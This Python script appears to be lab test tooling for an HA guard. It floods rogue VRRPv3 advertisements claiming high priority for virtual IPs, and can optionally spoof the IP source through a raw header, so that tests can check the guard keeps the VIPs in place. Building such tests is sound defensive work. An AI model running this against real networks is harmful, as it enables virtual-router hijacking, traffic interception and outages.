#!/usr/bin/env python3
"""Send VRRPv3 adverts (RFC 5798) for one virtual router, as a rogue router
on the segment would: python3 vrrp_advert.py --source ADDR --vip VIP [...]

Lab only: the guard's tests send them from a host that is not an LB, and
must see the VIPs stay where they are. With --as, the IP header is built
here (IP_HDRINCL) and carries that source address instead of this host's:
the spoof the guard cannot tell from the peer (see docs/guard.md, What remains).
Prints {"sent": N} as JSON. Bounded: --seconds at most 30. Needs the
sidecar's package (sdn_ha_mirror) on PYTHONPATH, as lab/emulator.yml installs it.
"""

from __future__ import annotations

import argparse
import json
import socket
import struct
import sys
import time

from sdn_ha_mirror.reset import checksum  # the Internet checksum (RFC 1071)

VRRP_GROUP = "224.0.0.18"
PROTO_VRRP = 112


def advert(source: str, vrid: int, priority: int, interval_cs: int, vips: list[str]) -> bytes:
    addresses = b"".join(socket.inet_aton(v) for v in vips)
    head = struct.pack("!BBBBH", 0x31, vrid, priority, len(vips), interval_cs & 0x0FFF)
    body = head + b"\0\0" + addresses
    pseudo = socket.inet_aton(source) + socket.inet_aton(VRRP_GROUP) + struct.pack("!BBH", 0, PROTO_VRRP, len(body))
    return head + struct.pack("!H", checksum(pseudo + body)) + addresses


def ip_header(source: str, length: int) -> bytes:
    # version/IHL, TOS, total length, id, flags/fragment, TTL 255, protocol, checksum (kernel fills), addresses
    return struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0xC0,
        20 + length,
        0,
        0,
        255,
        PROTO_VRRP,
        0,
        socket.inet_aton(source),
        socket.inet_aton(VRRP_GROUP),
    )


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--source", required=True, help="this host's address on the segment (the interface to send on)")
    parser.add_argument("--as", dest="spoof", help="put this source address in the IP header instead")
    parser.add_argument("--vip", action="append", required=True, help="a virtual address of the router (repeat)")
    parser.add_argument("--vrid", type=int, default=51)
    parser.add_argument("--priority", type=int, default=254)
    parser.add_argument("--interval-cs", type=int, default=10, help="the advert interval it claims, centiseconds")
    parser.add_argument("--every", type=float, default=0.05, help="seconds between adverts")
    parser.add_argument("--seconds", type=float, default=3.0)
    args = parser.parse_args()
    seconds = min(args.seconds, 30.0)
    sender = args.spoof or args.source
    message = advert(sender, args.vrid, args.priority, args.interval_cs, args.vip)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, PROTO_VRRP)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(args.source))
    if args.spoof:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        message = ip_header(args.spoof, len(message)) + message
    sent, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        sock.sendto(message, (VRRP_GROUP, 0))
        sent += 1
        time.sleep(args.every)
    print(json.dumps({"sent": sent}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
